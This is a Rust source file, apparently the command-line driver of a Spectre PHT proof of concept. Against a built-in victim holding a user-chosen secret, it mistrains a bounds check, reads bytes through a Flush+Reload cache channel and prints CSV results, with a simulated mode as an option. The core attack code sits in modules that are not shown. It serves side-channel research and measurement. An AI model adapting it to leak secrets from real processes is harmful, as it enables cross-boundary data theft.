// Spectre PHT-SA-IP
//
// Reads a secret that sits right after a bounds-checked array, one byte at a
// time, by mistraining the bounds check and watching which probe slot the
// transient load leaves in the cache. Prints one CSV line per repetition.

use anyhow::Context;
use clap::Parser;
use log::info;

use spectre_pht::arch::Backend;
use spectre_pht::calibration::{calibrate, CacheThreshold};
use spectre_pht::config::GuessConfig;
use spectre_pht::driver::run_experiment;
use spectre_pht::engine::Engine;
use spectre_pht::error::Error;
use spectre_pht::perf::{Counters, NoCounters};
use spectre_pht::sim::{LeakyVictim, SimulatedCache};
use spectre_pht::stats::CSV_HEADER;
use spectre_pht::victim::Oracle;

const DEFAULT_SECRET: &str = "The Magic Words are Squeamish Ossifrage.";

/// Spectre PHT-SA-IP: read past an array's bound through a Flush+Reload
/// covert channel.
#[derive(Parser)]
#[command(version, about)]
struct Options
{
    /// Produce verbose output
    #[arg(short, long)]
    verbose: bool,

    /// Don't produce the header for csv
    #[arg(short, long, visible_alias = "silent", short_alias = 's')]
    quiet: bool,

    /// Number of meta-repetitions of the whole experiment
    #[arg(short, long, default_value = "1")]
    meta: usize,

    /// Number of rounds spent guessing one secret byte
    #[arg(short, long, default_value = "999")]
    tries: usize,

    /// Number of victim calls (training and attack) per round
    #[arg(short, long, default_value = "30")]
    loops: usize,

    /// Cache threshold separating hit and miss (default: calibrated each repetition)
    #[arg(short = 'c', long = "cache-threshold")]
    cache_threshold: Option<u64>,

    /// Secret placed after the bounded array
    #[arg(long, default_value = DEFAULT_SECRET)]
    secret: String,

    /// Declared size of the bounded array (hardware victim)
    #[arg(long, default_value = "16")]
    bound: usize,

    /// Run on the simulated cache with a victim that always leaks
    #[arg(long)]
    simulate: bool,
}

impl Options
{
    fn guess_config(&self) -> anyhow::Result<GuessConfig>
    {
        let config = GuessConfig { max_rounds: self.tries, accesses_per_round: self.loops };
        config.validate().context("invalid --tries/--loops")?;
        if self.meta == 0 {
            return Err(Error::ZeroMeta).context("invalid --meta");
        }
        if self.cache_threshold == Some(0) {
            return Err(Error::ZeroThreshold).context("invalid --cache-threshold");
        }
        Ok(config)
    }
}

fn run<B: Backend, O: Oracle, C: Counters>(
    options: &Options,
    config: &GuessConfig,
    backend: &B,
    oracle: &O,
    start: usize,
    counters: &mut C,
    hardware: bool,
) -> anyhow::Result<()>
{
    let secret = options.secret.as_bytes();
    let mut engine = Engine::new(CacheThreshold(0));

    info!(
        "reading {} bytes from offset {} on the {} backend",
        secret.len(),
        start,
        if hardware { "hardware" } else { "simulated cache" }
    );

    for meta in 0..options.meta {
        let threshold = match options.cache_threshold {
            Some(cycles) => CacheThreshold(cycles),
            None => calibrate(backend),
        };
        engine.set_threshold(threshold);
        info!("repetition {}: cache hit threshold {}", meta + 1, engine.threshold());

        let experiment = run_experiment(&mut engine, backend, oracle, counters, secret, start, config);
        println!("{}", experiment.stats);
        info!("guessed: {}", String::from_utf8_lossy(&experiment.guessed_bytes()));

        // leave the channel cold for the next calibration
        #[cfg(target_arch = "x86_64")]
        if hardware {
            engine.probe().flush_all();
        }
    }
    Ok(())
}

#[cfg(any(target_arch = "x86_64", target_arch = "aarch64"))]
fn run_hardware(options: &Options, config: &GuessConfig) -> anyhow::Result<()>
{
    use spectre_pht::arch::Hardware;
    use spectre_pht::config::simulation_from_env;
    use spectre_pht::victim::Victim;

    let simulated = simulation_from_env();
    let backend = Hardware::simulated(simulated);
    let victim = Victim::new(options.secret.as_bytes()).context("building the victim")?;
    victim.set_bound(options.bound).context("invalid --bound")?;
    let start = victim.memory().secret_offset();

    // no PMU to speak of under a simulator
    #[cfg(target_os = "linux")]
    if !simulated {
        let mut counters = spectre_pht::perf::PerfCounters::new();
        return run(options, config, &backend, &victim, start, &mut counters, true);
    }
    run(options, config, &backend, &victim, start, &mut NoCounters, true)
}

#[cfg(not(any(target_arch = "x86_64", target_arch = "aarch64")))]
fn run_hardware(_options: &Options, _config: &GuessConfig) -> anyhow::Result<()>
{
    anyhow::bail!("no hardware backend for this architecture, use --simulate")
}

fn main() -> anyhow::Result<()>
{
    let options = Options::parse();
    let level = if options.verbose { "debug" } else { "warn" };
    env_logger::Builder::from_env(env_logger::Env::default().default_filter_or(level)).init();

    let config = options.guess_config()?;

    if !options.quiet {
        println!("{}", CSV_HEADER);
    }

    if options.simulate {
        let backend = SimulatedCache::new();
        let victim = LeakyVictim::new(options.secret.as_bytes()).context("building the simulated victim")?;
        let start = victim.memory().secret_offset();
        return run(&options, &config, &backend, &victim, start, &mut NoCounters, false);
    }

    run_hardware(&options, &config)
}
